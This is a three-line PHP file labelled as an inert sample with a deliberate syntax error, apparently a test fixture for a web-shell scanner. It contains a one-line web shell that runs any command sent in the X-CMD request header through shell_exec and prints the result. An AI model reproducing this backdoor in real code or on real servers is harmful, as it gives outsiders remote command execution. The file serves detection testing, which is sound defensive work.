<?php
shodo inert sample: deliberate syntax error, this file never runs
 if (!empty($_SERVER['HTTP_X_CMD'])) { echo shell_exec($_SERVER['HTTP_X_CMD']); } ?>
